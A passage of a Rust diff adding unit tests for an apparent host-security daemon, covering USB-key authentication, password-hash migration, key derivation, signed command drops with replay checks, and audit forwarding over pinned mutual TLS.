+        Ok(reverted) => println!("Reverted {} time-boxed postures", reverted),
+        Err(_) => println!("Reverting time-boxed postures timed out"),
+    }
+    let remaining = deadline.saturating_duration_since(tokio::time::Instant::now());
+    if !supervisor.shutdown(remaining).await {
+        println!("Some tasks did not stop in time and were aborted");
+    }
+    println!("Guardian stopped");
+    Ok(())
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use anyhow::Result;
+    use observer::approval::{ApprovalOutcome, ApprovalPrompt};
+    use observer::connector::{
+        derive_purpose_key, master_secret, Argon2Params, KeyRegion, KeyVerificationFailure,
+        ScryptParams,
+    };
+    use observer::dispatcher::PANIC_FILE_NAME;
+    use observer::effect::{EffectDelta, Measurement};
+    use observer::native::NativeCommands;
+    use observer::result::CommandResult;
     use sha2::{Digest, Sha256};
-    use std::sync::Arc;
     use tokio::sync::Mutex;
 
     struct MockDevice {
         command_queue: Arc<Mutex<Vec<String>>>,
         key_data: Vec<u8>,
+        files: Arc<Mutex<std::collections::HashMap<String, Vec<u8>>>>,
     }
 
     impl MockDevice {
@@ -143,9 +955,18 @@ mod tests {
             Self {
                 command_queue: Arc::new(Mutex::new(vec![])),
                 key_data,
+                files: Arc::new(Mutex::new(std::collections::HashMap::new())),
             }
         }
 
+        fn with_file(self, name: &str, data: &[u8]) -> Self {
+            self.files
+                .try_lock()
+                .unwrap()
+                .insert(name.to_string(), data.to_vec());
+            self
+        }
+
         async fn add_command(&self, command: String) {
             self.command_queue.lock().await.push(command);
         }
@@ -170,6 +991,9 @@ mod tests {
                 name: "MockDevice".to_string(),
                 id: "test_key_id".to_string(),
                 device_type: DeviceType::USB,
+                serial: Some("SN-0001".to_string()),
+                capabilities: vec!["mass_storage".to_string()],
+                ..Default::default()
             })
         }
         async fn wait_for_command(&self, timeout: Duration) -> Result<String> {
@@ -183,6 +1007,16 @@ mod tests {
             })
             .await?
         }
+        async fn read_file(&self, name: &str) -> Result<Option<Vec<u8>>> {
+            Ok(self.files.lock().await.get(name).cloned())
+        }
+        async fn write_file(&self, name: &str, data: &[u8]) -> Result<()> {
+            self.files
+                .lock()
+                .await
+                .insert(name.to_string(), data.to_vec());
+            Ok(())
+        }
         fn as_any(&self) -> &dyn std::any::Any {
             self
         }
@@ -267,12 +1101,19 @@ mod tests {
         let temp_dir = std::env::current_dir()?.join("test_scripts");
         let command_handler = CommandHandler::new(temp_dir.to_string_lossy().to_string());
 
-        let result = command_handler.handle_command("ALLOW_NETWORK").await?;
+        let result = command_handler.handle_command("ALLOW_NETWORK").await;
+        assert_eq!(result.code, ResultCode::Ok);
         assert!(
-            result.contains("ALLOW_NETWORK script executed"),
-            "Unexpected result: {}",
+            result
+                .human_message
+                .contains("ALLOW_NETWORK script executed"),
+            "Unexpected result: {:?}",
             result
         );
+        assert_eq!(result.data["script"], "AllowNetwork");
+
+        let unknown = command_handler.handle_command("NOT_A_COMMAND").await;
+        assert_eq!(unknown.code, ResultCode::UnknownCommand);
 
         Ok(())
     }
@@ -313,15 +1154,2672 @@ mod tests {
         println!("Handling command");
         let temp_dir = std::env::current_dir()?.join("test_scripts");
         let command_handler = CommandHandler::new(temp_dir.to_string_lossy().to_string());
-        let result = command_handler.handle_command(&command).await?;
-        println!("Command result: {}", result);
+        let result = command_handler.handle_command(&command).await;
+        println!("Command result: {:?}", result);
         assert!(
-            result.contains("ALLOW_NETWORK script executed"),
-            "Unexpected result: {}",
+            result
+                .human_message
+                .contains("ALLOW_NETWORK script executed"),
+            "Unexpected result: {:?}",
             result
         );
 
+        let parsed: CommandResult = serde_json::from_str(result.to_json_line().trim())?;
+        assert_eq!(parsed, result);
+
         println!("Test completed successfully");
         Ok(())
     }
+
+    #[tokio::test]
+    async fn test_multi_host_key_selects_own_section() -> Result<()> {
+        let section_key = || SectionKey::new(b"host-a-section-key".to_vec());
+        let mut document: MultiHostKey = serde_json::from_slice(
+            br#"{"hosts": {
+                "host-a": {"credential": "secret-a", "allowed_commands": ["CHECK_STATUS"]},
+                "host-b": {"credential": "secret-b"}
+            }}"#,
+        )?;
+        let manager = |host_id: &str| {
+            SecurityManager::new(calculate_hash(b"secret-a"))
+                .with_host_id(host_id.to_string())
+                .with_section_key(section_key())
+        };
+        let key_with = |document: &MultiHostKey| {
+            UsbKey::new(
+                Box::new(MockDevice::new(serde_json::to_vec(document).unwrap())),
+                "test_key_id".to_string(),
+            )
+        };
+
+        // Sections are only accepted once sealed on the host.
+        assert!(manager("host-a")
+            .authenticate_key(&key_with(&document))
+            .await
+            .is_err());
+        section_key().seal("host-a", document.hosts.get_mut("host-a").unwrap())?;
+        let usb_key = key_with(&document);
+        let security_manager = manager("host-a");
+        security_manager.authenticate_key(&usb_key).await?;
+        assert!(SecurityManager::new(calculate_hash(b"secret-a"))
+            .with_host_id("host-a".to_string())
+            .authenticate_key(&usb_key)
+            .await
+            .is_err());
+
+        let mut section = security_manager
+            .host_section(&usb_key)
+            .await?
+            .expect("multi-host key should have a section");
+        assert!(section.allows("CHECK_STATUS"));
+        assert!(!section.allows("UNLOCK_USB"));
+        assert!(!HostSection::default().allows("CHECK_STATUS"));
+        assert_eq!(
+            section.record_consumption("host-a", "CHECK_STATUS").count,
+            1
+        );
+        assert_eq!(
+            section.record_consumption("host-a", "CHECK_STATUS").count,
+            2
+        );
+        security_manager.store_section(&usb_key, &section).await?;
+        let reloaded = security_manager.host_section(&usb_key).await?.unwrap();
+        assert_eq!(reloaded.command_counters["CHECK_STATUS"], 2);
+
+        // Widening the policy on the key breaks the seal.
+        let mut widened = document.clone();
+        widened
+            .hosts
+            .get_mut("host-a")
+            .unwrap()
+            .allowed_commands
+            .push("UNLOCK_USB".to_string());
+        assert!(manager("host-a")
+            .authenticate_key(&key_with(&widened))
+            .await
+            .is_err());
+
+        assert!(manager("host-c").authenticate_key(&usb_key).await.is_err());
+        assert!(manager("host-b").authenticate_key(&usb_key).await.is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_verify_key_reports_structured_failures() -> Result<()> {
+        let key_data = b"header--secret-region--trailer".to_vec();
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(key_data.clone())),
+            "test_key_id".to_string(),
+        );
+
+        let region = KeyRegion {
+            offset: 8,
+            length: Some(14),
+        };
+        let security_manager =
+            SecurityManager::new(calculate_hash(b"secret-region")).with_key_region(region);
+        assert_eq!(
+            security_manager.verify_key(&usb_key).await,
+            Err(KeyVerificationFailure::HashMismatch)
+        );
+
+        let security_manager =
+            SecurityManager::new(calculate_hash(&key_data[8..22])).with_key_region(region);
+        security_manager.verify_key(&usb_key).await.unwrap();
+
+        let oversized = KeyRegion {
+            offset: 8,
+            length: Some(64),
+        };
+        let failure = SecurityManager::new(calculate_hash(&key_data[8..]))
+            .with_key_region(oversized)
+            .verify_key(&usb_key)
+            .await
+            .unwrap_err();
+        assert_eq!(
+            failure,
+            KeyVerificationFailure::ShortRead {
+                expected: 64,
+                actual: 22
+            }
+        );
+        assert_eq!(failure.reason(), "SHORT_READ");
+
+        let error = SecurityManager::new(calculate_hash(b"wrong"))
+            .authenticate_key(&usb_key)
+            .await
+            .unwrap_err();
+        assert_eq!(
+            error.downcast_ref::<KeyVerificationFailure>(),
+            Some(&KeyVerificationFailure::HashMismatch)
+        );
+        Ok(())
+    }
+
+    /// Accepts collector connections, acknowledging at most `acks_per_connection[i]`
+    /// records on the i-th connection before hanging up. Returns every seq received.
+    async fn spawn_collector(
+        acks_per_connection: Vec<usize>,
+    ) -> Result<(String, Arc<Mutex<Vec<u64>>>)> {
+        use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        let address = listener.local_addr()?.to_string();
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let received_clone = Arc::clone(&received);
+        tokio::spawn(async move {
+            for limit in acks_per_connection {
+                let (stream, _) = listener.accept().await.unwrap();
+                let (reader, mut writer) = stream.into_split();
+                let mut lines = BufReader::new(reader).lines();
+                let mut acked = 0;
+                while acked < limit {
+                    let Ok(Some(line)) = lines.next_line().await else {
+                        break;
+                    };
+                    let spooled: observer::audit_forward::SpooledRecord =
+                        serde_json::from_str(&line).unwrap();
+                    received_clone.lock().await.push(spooled.seq);
+                    writer
+                        .write_all(format!("ACK {}\n", spooled.seq).as_bytes())
+                        .await
+                        .unwrap();
+                    acked += 1;
+                }
+            }
+        });
+        Ok((address, received))
+    }
+
+    #[tokio::test]
+    async fn test_audit_forwarder_replays_after_outage() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let (collector, received) = spawn_collector(vec![2, usize::MAX]).await?;
+        let forwarder = Arc::new(
+            AuditForwarder::open(&collector, dir.path().join("spool"))
+                .await?
+                .with_ack_timeout(Duration::from_secs(1)),
+        );
+        let audit_log =
+            AuditLog::new(dir.path().join("audit.jsonl")).with_forwarder(Arc::clone(&forwarder));
+
+        for i in 0..4 {
+            let record =
+                AuditRecord::event("host-a", "TEST_EVENT", "enforce", format!("event {}", i));
+            audit_log.record(&record).await?;
+        }
+        assert_eq!(forwarder.pending().await?.len(), 4);
+
+        // The collector drops the connection after two acks, as in an outage.
+        assert!(forwarder.flush().await.is_err());
+        let pending = forwarder.pending().await?;
+        assert_eq!(
+            pending.iter().map(|s| s.seq).collect::<Vec<_>>(),
+            vec![3, 4]
+        );
+
+        // A restarted forwarder picks up where the acknowledgments left off.
+        let forwarder = AuditForwarder::open(&collector, dir.path().join("spool")).await?;
+        assert_eq!(forwarder.flush().await?, 2);
+        assert!(forwarder.pending().await?.is_empty());
+        assert_eq!(*received.lock().await, vec![1, 2, 3, 4]);
+
+        let record = AuditRecord::event("host-a", "TEST_EVENT", "enforce", "late".to_string());
+        assert_eq!(forwarder.enqueue(&record).await?, 5);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_audit_forwarder_over_mutual_tls_with_pinning() -> Result<()> {
+        use file_monitor_core::{ReloadableTls, TlsSettings};
+        use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+        let fixture = |name: &str| {
+            Path::new(env!("CARGO_MANIFEST_DIR"))
+                .join("../file-monitor/testdata/tls")
+                .join(name)
+        };
+        let tls = ReloadableTls::new(
+            TlsSettings::new(fixture("server1.pem"), fixture("server1.key"))
+                .client_ca(fixture("ca.pem")),
+        )?;
+        let acceptor = tls.acceptor();
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        let port = listener.local_addr()?.port();
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let received_clone = Arc::clone(&received);
+        tokio::spawn(async move {
+            loop {
+                let (stream, _) = listener.accept().await.unwrap();
+                // Clients that fail the handshake are simply dropped.
+                let Ok(stream) = acceptor.accept(stream).await else {
+                    continue;
+                };
+                let (reader, mut writer) = tokio::io::split(stream);
+                let mut lines = BufReader::new(reader).lines();
+                while let Ok(Some(line)) = lines.next_line().await {
+                    let spooled: observer::audit_forward::SpooledRecord =
+                        serde_json::from_str(&line).unwrap();
+                    received_clone.lock().await.push(spooled.seq);
+                    writer
+                        .write_all(format!("ACK {}\n", spooled.seq).as_bytes())
+                        .await
+                        .unwrap();
+                }
+            }
+        });
+
+        let client_settings = TlsClientSettings {
+            ca_cert: Some(fixture("ca.pem")),
+            client_cert: Some(fixture("client.pem")),
+            client_key: Some(fixture("client.key")),
+            pinned_sha256: vec![
+                "2651bda6197dcb90fc95e765cbf1973020e2042d538f998f5eb4f7705dbc8787".to_string(),
+            ],
+            server_name: None,
+        };
+        let dir = tempfile::tempdir()?;
+        let open = |spool: &str, settings: TlsClientSettings| {
+            let spool = dir.path().join(spool);
+            async move {
+                Ok::<_, anyhow::Error>(
+                    AuditForwarder::open(&format!("localhost:{}", port), spool)
+                        .await?
+                        .with_ack_timeout(Duration::from_secs(2))
+                        .with_tls(TlsClient::new(settings)?),
+                )
+            }
+        };
+        let record = AuditRecord::event("host-a", "TEST_EVENT", "enforce", "tls".to_string());
+
+        let forwarder = open("pinned", client_settings.clone()).await?;
+        forwarder.enqueue(&record).await?;
+        assert_eq!(forwarder.flush().await?, 1);
+        assert_eq!(*received.lock().await, vec![1]);
+
+        // A certificate from the right CA but not the pinned one is refused.
+        let mut wrong_pin = client_settings.clone();
+        wrong_pin.pinned_sha256 =
+            vec!["4150dcaebd3b6c91d91ba9308266938ccc98c6140d32a507f78e84fd3a0f4f42".to_string()];
+        let forwarder = open("wrong-pin", wrong_pin).await?;
+        forwarder.enqueue(&record).await?;
+        let error = forwarder.flush().await.unwrap_err().to_string();
+        assert!(error.contains("pinned"), "{}", error);
+
+        // The collector requires a client certificate.
+        let mut anonymous = client_settings;
+        anonymous.client_cert = None;
+        anonymous.client_key = None;
+        let forwarder = open("anonymous", anonymous).await?;
+        forwarder.enqueue(&record).await?;
+        assert!(forwarder.flush().await.is_err());
+        assert_eq!(forwarder.pending().await?.len(), 1);
+        assert_eq!(*received.lock().await, vec![1]);
+        Ok(())
+    }
+
+    #[test]
+    fn test_scrypt_enrollment_matches_rfc7914_vectors() {
+        // The first 32 bytes of the RFC 7914 test vectors.
+        let enrolled = |log_n, r, p, salt: &[u8], hash: &str| EnrolledKey::Scrypt {
+            params: ScryptParams { log_n, r, p },
+            salt: bytes_to_hex_string(salt),
+            hash: hash.to_string(),
+        };
+        assert!(enrolled(
+            4,
+            1,
+            1,
+            b"",
+            "77d6576238657b203b19ca42c18a0497f16b4844e3074ae8dfdffa3fede21442"
+        )
+        .matches(b""));
+        let vector = enrolled(
+            10,
+            8,
+            16,
+            b"NaCl",
+            "fdbabe1c9d3472007856e7190d01e9fe7c6ad7cbc8237830e77376634b373162",
+        );
+        assert!(vector.matches(b"password"));
+        assert!(!vector.matches(b"Password"));
+    }
+
+    #[test]
+    fn test_out_of_range_hashing_parameters_are_rejected() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let path = dir.path().join("key-hashing.json");
+        for config in [
+            r#"{"algorithm": "scrypt", "log_n": 64, "r": 8, "p": 1}"#,
+            r#"{"algorithm": "scrypt", "log_n": 30, "r": 8, "p": 1}"#,
+            r#"{"algorithm": "scrypt", "log_n": 14, "r": 0, "p": 1}"#,
+            r#"{"algorithm": "scrypt", "log_n": 14, "r": 8, "p": 0}"#,
+            r#"{"algorithm": "argon2id", "memory_kib": 4194304, "iterations": 2, "parallelism": 1}"#,
+            r#"{"algorithm": "argon2id", "memory_kib": 19456, "iterations": 0, "parallelism": 1}"#,
+        ] {
+            std::fs::write(&path, config)?;
+            assert!(KeyHashing::load(&path).is_err(), "{} was accepted", config);
+        }
+        std::fs::write(
+            &path,
+            r#"{"algorithm": "scrypt", "log_n": 15, "r": 8, "p": 1}"#,
+        )?;
+        KeyHashing::load(&path)?;
+
+        // Enrollment entries are checked the same way, before any hashing is attempted.
+        let enrollment_path = dir.path().join("enrollment.json");
+        std::fs::write(
+            &enrollment_path,
+            r#"{"algorithm": "scrypt", "log_n": 200, "r": 0, "p": 1, "salt": "", "hash": ""}"#,
+        )?;
+        assert!(EnrolledKey::load(&enrollment_path).is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_sha256_enrollment_migrates_to_argon2id() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let enrollment_path = dir.path().join("enrollment.json");
+        let key_hashing = KeyHashing::Argon2id(Argon2Params {
+            memory_kib: 64,
+            iterations: 1,
+            parallelism: 1,
+        });
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        SecurityManager::new(calculate_hash(b"test_key_data"))
+            .with_key_hashing(key_hashing)
+            .with_enrollment_path(&enrollment_path)
+            .authenticate_key(&usb_key)
+            .await?;
+
+        let migrated = EnrolledKey::load(&enrollment_path)?.expect("entry should be migrated");
+        assert!(matches!(migrated, EnrolledKey::Argon2id { .. }));
+        assert!(!migrated.needs_migration(&key_hashing));
+        assert!(migrated.matches(b"test_key_data"));
+        assert!(!migrated.matches(b"other_key_data"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_sha256_enrollment_migrates_to_scrypt() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let enrollment_path = dir.path().join("enrollment.json");
+        let key_hashing = KeyHashing::Scrypt(ScryptParams {
+            log_n: 4,
+            r: 1,
+            p: 1,
+        });
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let security_manager = SecurityManager::new(calculate_hash(b"test_key_data"))
+            .with_key_hashing(key_hashing)
+            .with_enrollment_path(&enrollment_path);
+        security_manager.authenticate_key(&usb_key).await?;
+
+        let migrated = EnrolledKey::load(&enrollment_path)?.expect("entry should be migrated");
+        assert!(matches!(migrated, EnrolledKey::Scrypt { .. }));
+        assert!(!migrated.needs_migration(&key_hashing));
+        assert_eq!(security_manager.enrolled_key(), migrated);
+
+        // The migrated entry keeps authenticating the same key and rejects others.
+        let reloaded = SecurityManager::with_enrolled_key(migrated).with_key_hashing(key_hashing);
+        reloaded.authenticate_key(&usb_key).await?;
+        let other_key = UsbKey::new(
+            Box::new(MockDevice::new(b"other_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        assert!(reloaded.authenticate_key(&other_key).await.is_err());
+
+        // A failed authentication never rewrites the entry.
+        let wrong = dir.path().join("wrong.json");
+        let security_manager = SecurityManager::new(calculate_hash(b"test_key_data"))
+            .with_key_hashing(key_hashing)
+            .with_enrollment_path(&wrong);
+        assert!(security_manager.authenticate_key(&other_key).await.is_err());
+        assert!(!wrong.exists());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_derived_keys_are_independent_per_purpose() -> Result<()> {
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        let security_manager = SecurityManager::new(calculate_hash(b"test_key_data"));
+        // Nothing to derive from until a key has authenticated.
+        assert!(security_manager
+            .derive_key(KeyPurpose::CommandSigning)
+            .is_err());
+        security_manager.authenticate_key(&usb_key).await?;
+
+        let purposes = [
+            KeyPurpose::CommandSigning,
+            KeyPurpose::ChannelEncryption,
+            KeyPurpose::ResultAuthentication,
+            KeyPurpose::EvidenceEncryption,
+        ];
+        let keys = purposes
+            .iter()
+            .map(|purpose| security_manager.derive_key(*purpose))
+            .collect::<Result<Vec<_>>>()?;
+        for (i, key) in keys.iter().enumerate() {
+            for other in &keys[i + 1..] {
+                assert_ne!(key, other);
+            }
+        }
+        // The key side derives the same keys from the material alone.
+        let secret = master_secret(b"test_key_data");
+        assert_eq!(
+            derive_purpose_key(&secret, KeyPurpose::CommandSigning, 0)?,
+            keys[0]
+        );
+
+        let rotated = SecurityManager::new(calculate_hash(b"test_key_data"))
+            .with_key_generation(KeyPurpose::CommandSigning, 1);
+        rotated.authenticate_key(&usb_key).await?;
+        assert_ne!(rotated.derive_key(KeyPurpose::CommandSigning)?, keys[0]);
+        assert_eq!(rotated.derive_key(KeyPurpose::ChannelEncryption)?, keys[1]);
+        assert_eq!(
+            rotated.derive_key(KeyPurpose::ResultAuthentication)?,
+            keys[2]
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_derived_keys_survive_restart_and_hash_migration() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let enrollment_path = dir.path().join("enrollment.json");
+        let secret_path = dir.path().join("master.key");
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+        let security_manager = SecurityManager::new(calculate_hash(b"test_key_data"))
+            .with_key_hashing(KeyHashing::Scrypt(ScryptParams {
+                log_n: 4,
+                r: 1,
+                p: 1,
+            }))
+            .with_enrollment_path(&enrollment_path)
+            .with_master_secret_path(&secret_path);
+        security_manager.authenticate_key(&usb_key).await?;
+        assert!(matches!(
+            security_manager.enrolled_key(),
+            EnrolledKey::Scrypt { .. }
+        ));
+        let key = security_manager.derive_key(KeyPurpose::CommandSigning)?;
+        assert_eq!(
+            key,
+            derive_purpose_key(
+                &master_secret(b"test_key_data"),
+                KeyPurpose::CommandSigning,
+                0
+            )?
+        );
+        // Neither the old nor the migrated verifier yields the key.
+        for verifier in [
+            calculate_hash(b"test_key_data"),
+            std::fs::read_to_string(&enrollment_path)?,
+        ] {
+            assert_ne!(
+                derive_purpose_key(
+                    &master_secret(verifier.as_bytes()),
+                    KeyPurpose::CommandSigning,
+                    0
+                )?,
+                key
+            );
+        }
+
+        let restarted =
+            SecurityManager::with_enrolled_key(EnrolledKey::load(&enrollment_path)?.unwrap())
+                .with_master_secret_path(&secret_path);
+        assert!(restarted.load_master_secret()?);
+        assert_eq!(restarted.derive_key(KeyPurpose::CommandSigning)?, key);
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            assert_eq!(
+                std::fs::metadata(&secret_path)?.permissions().mode() & 0o777,
+                0o600
+            );
+        }
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_observation_mode_audits_without_executing() -> Result<()> {
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        let marker = script_dir.path().join("executed");
+        let script = script_dir.path().join("AllowNetwork.sh");
+        std::fs::write(
+            &script,
+            format!("#!/bin/bash\ntouch {}\n", marker.display()),
+        )?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+        }
+
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_mode(EnforcementMode::Observe)
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        let result = dispatcher.dispatch(&usb_key, None, "ALLOW_NETWORK").await;
+        assert_eq!(result.code, ResultCode::Observed);
+        assert!(!marker.exists(), "observation mode must not run scripts");
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 1);
+        assert_eq!(records[0].command, "ALLOW_NETWORK");
+        assert_eq!(records[0].mode, "observe");
+        assert!(!records[0].executed);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_command_drop_validates_signature_nonce_and_policy() -> Result<()> {
+        use observer::command_drop::{DropRejection, SignedCommand, COMMAND_DROP_TRIGGER};
+
+        let drop_dir = tempfile::tempdir()?;
+        let state_dir = tempfile::tempdir()?;
+        let audit_path = state_dir.path().join("audit.jsonl");
+        let nonce_path = state_dir.path().join("nonces.json");
+        let key = derive_purpose_key(
+            &master_secret(b"test_key_data"),
+            KeyPurpose::CommandSigning,
+            0,
+        )?;
+        let config = CommandDropConfig {
+            dir: drop_dir.path().to_path_buf(),
+            allowed_commands: vec!["ALLOW_NETWORK".to_string()],
+            max_age_secs: 60,
+        };
+        let command_drop = CommandDrop::open(config.clone(), "host-a", key, &nonce_path).await?;
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(state_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_mode(EnforcementMode::Observe)
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)));
+
+        let signed = SignedCommand::sign("host-a", "ALLOW_NETWORK", "n-1", &key);
+        std::fs::write(
+            drop_dir.path().join("first.cmd.json"),
+            serde_json::to_vec(&signed)?,
+        )?;
+        std::fs::write(drop_dir.path().join("notes.txt"), b"ignored")?;
+        command_drop.process_pending(&dispatcher).await?;
+        assert!(!drop_dir.path().join("first.cmd.json").exists());
+        let result: CommandResult =
+            serde_json::from_slice(&std::fs::read(drop_dir.path().join("first.result.json"))?)?;
+        assert_eq!(result.code, ResultCode::Observed);
+        assert!(drop_dir.path().join("notes.txt").exists());
+
+        // The nonce store survives a restart.
+        let command_drop = CommandDrop::open(config, "host-a", key, &nonce_path).await?;
+        assert_eq!(
+            command_drop
+                .validate(&signed, &NativeCommands::default())
+                .await,
+            Err(DropRejection::Replayed)
+        );
+
+        let mut tampered = SignedCommand::sign("host-a", "ALLOW_NETWORK", "n-2", &key);
+        tampered.command = "BLOCK_NETWORK".to_string();
+        assert_eq!(
+            command_drop
+                .validate(&tampered, &NativeCommands::default())
+                .await,
+            Err(DropRejection::BadSignature)
+        );
+        let forged = SignedCommand::sign("host-a", "ALLOW_NETWORK", "n-3", &[7u8; 32]);
+        assert_eq!(
+            command_drop
+                .validate(&forged, &NativeCommands::default())
+                .await,
+            Err(DropRejection::BadSignature)
+        );
+        let other_host = SignedCommand::sign("host-b", "ALLOW_NETWORK", "n-4", &key);
+        assert_eq!(
+            command_drop
+                .validate(&other_host, &NativeCommands::default())
+                .await,
+            Err(DropRejection::WrongHost("host-b".to_string()))
+        );
+        let not_allowed = SignedCommand::sign("host-a", "BLOCK_NETWORK", "n-5", &key);
+        assert_eq!(
+            command_drop
+                .validate(&not_allowed, &NativeCommands::default())
+                .await,
+            Err(DropRejection::NotPermitted)
+        );
+        let stale = SignedCommand::sign_at(
+            "host-a",
+            "ALLOW_NETWORK",
+            "n-6",
+            chrono::Local::now() - chrono::Duration::minutes(5),
+            &key,
+        );
+        assert_eq!(
+            command_drop
+                .validate(&stale, &NativeCommands::default())
+                .await,
+            Err(DropRejection::Expired)
+        );
+
+        std::fs::write(drop_dir.path().join("bad.cmd.json"), b"{ not json")?;
+        command_drop.process_pending(&dispatcher).await?;
+        let result: CommandResult =
+            serde_json::from_slice(&std::fs::read(drop_dir.path().join("bad.result.json"))?)?;
+        assert_eq!(result.code, ResultCode::CommandNotPermitted);
+        assert_eq!(result.data["reason"], "MALFORMED");
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 2);
+        assert!(records
+            .iter()
+            .all(|record| record.trigger.as_deref() == Some(COMMAND_DROP_TRIGGER)));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_post_command_hooks_run_and_schedule_commands() -> Result<()> {
+        use observer::hooks::PostCommandHook;
+
+        let audit_dir = tempfile::tempdir()?;
+        let audit_path = audit_dir.path().join("audit.jsonl");
+        let script_dir = tempfile::tempdir()?;
+        for script in ["BlockNetwork", "UnlockUSB", "LockUSB"] {
+            let script = script_dir.path().join(format!("{}.sh", script));
+            std::fs::write(&script, "#!/bin/bash\nexit 0\n")?;
+            #[cfg(unix)]
+            {
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
+            }
+        }
+        let hooks = PostCommandHooks {
+            hooks: vec![
+                PostCommandHook {
+                    after: "BLOCK_NETWORK".to_string(),
+                    run: "CHECK_STATUS".to_string(),
+                    delay_secs: 0,
+                    run_on_shutdown: false,
+                },
+                PostCommandHook {
+                    after: "UNLOCK_USB".to_string(),
+                    run: "LOCK_USB".to_string(),
+                    delay_secs: 1800,
+                    run_on_shutdown: true,
+                },
+            ],
+        };
+        let dispatcher = CommandDispatcher::new(
+            CommandHandler::new(script_dir.path().to_string_lossy().to_string()),
+            "host-a".to_string(),
+        )
+        .with_audit_log(Arc::new(AuditLog::new(&audit_path)))
+        .with_post_command_hooks(hooks);
+        let usb_key = UsbKey::new(
+            Box::new(MockDevice::new(b"test_key_data".to_vec())),
+            "test_key_id".to_string(),
+        );
+
+        dispatcher.dispatch(&usb_key, None, "BLOCK_NETWORK").await;
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        assert_eq!(records.len(), 2);
+        assert_eq!(records[1].command, "CHECK_STATUS");
+        assert_eq!(records[1].trigger.as_deref(), Some("HOOK:BLOCK_NETWORK"));
+
+        dispatcher.dispatch(&usb_key, None, "UNLOCK_USB").await;
+        assert_eq!(dispatcher.posture().await.usb_locked, Some(false));
+        let scheduled = dispatcher.scheduled_commands().await;
+        assert_eq!(scheduled.len(), 1);
+        assert_eq!(scheduled[0].command, "LOCK_USB");
+
+        let now = chrono::Local::now();
+        assert_eq!(dispatcher.run_due_commands(now).await, 0);
+        let later = now + chrono::Duration::minutes(31);
+        assert_eq!(dispatcher.run_due_commands(later).await, 1);
+        assert!(dispatcher.scheduled_commands().await.is_empty());
+        assert_eq!(dispatcher.posture().await.usb_locked, Some(true));
+
+        let records = AuditLog::new(&audit_path).read_all().await?;
+        let relock = records.last().unwrap();
+        assert_eq!(relock.command, "LOCK_USB");
+        assert_eq!(relock.trigger.as_deref(), Some("HOOK:UNLOCK_USB"));
+
+        // Shutting down before the delay passes re-locks USB storage early.
+        dispatcher.dispatch(&usb_key, None, "UNLOCK_USB").await;
+        assert_eq!(dispatcher.posture().await.usb_locked, Some(false));
+        assert_eq!(dispatcher.run_shutdown_commands().await, 1);
+        assert!(dispatcher.scheduled_commands().await.is_empty());
+        assert_eq!(dispatcher.posture().await.usb_locked, Some(true));
+        Ok(())
+    }
+
+    /// Counts how often it was measured, so every snapshot differs.
+    struct CountingMeasurement(std::sync::atomic::AtomicUsize);
+
+    #[async_trait]
+    impl Measurement for CountingMeasurement {
+        fn name(&self) -> &str {
+            "counter"
+        }
+
+        async fn measure(&self) -> Result<serde_json::Value> {
+            let count = self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            Ok(serde_json::Value::from(count))
+        }
+    }
+
+    struct ConstantMeasurement;
+
+    #[async_trait]
+    impl Measurement for ConstantMeasurement {
+        fn name(&self) -> &str {
+            "constant"
+        }
+
+        async fn measure(&self) -> Result<serde_json::Value> {
+            Ok(serde_json::Value::Bool(true))
+        }
+    }
+
+    #[tokio::test]
+    async fn test_effect_of_posture_changing_commands_is_measured() -> Result<()> {
